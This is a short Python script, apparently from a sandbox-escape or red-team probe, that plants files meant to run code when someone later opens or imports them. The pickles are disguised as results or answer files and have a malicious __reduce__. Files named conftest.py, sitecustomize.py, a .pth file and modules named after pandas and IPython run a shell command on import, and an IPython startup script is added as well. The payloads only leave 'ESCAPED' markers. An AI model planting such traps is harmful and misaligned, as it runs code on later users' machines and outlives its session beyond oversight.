# tries: leave pickles, .pth files and a conftest where somebody may load them later
# %%
import os, pickle
class Poison:
    def __reduce__(self):
        return (os.system, ("echo ESCAPED > /tmp/poisoned-by-a-pickle",))
for name in ("results.pkl", "results.pickle", ".OTTER_LOG", "cache.joblib", "answers.json", "__main__.pkl"):
    with open(name, "wb") as file:
        pickle.dump(Poison(), file)
for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "x.pth", "IPython.py", "pandas.py"):
    with open(name, "w") as file:
        file.write("import os; os.system('touch /tmp/poisoned-by-a-module')\n")
os.makedirs("/home/trainee/.ipython/profile_default/startup", exist_ok=True)
open("/home/trainee/.ipython/profile_default/startup/00.py", "w").write("print('ESCAPED')")
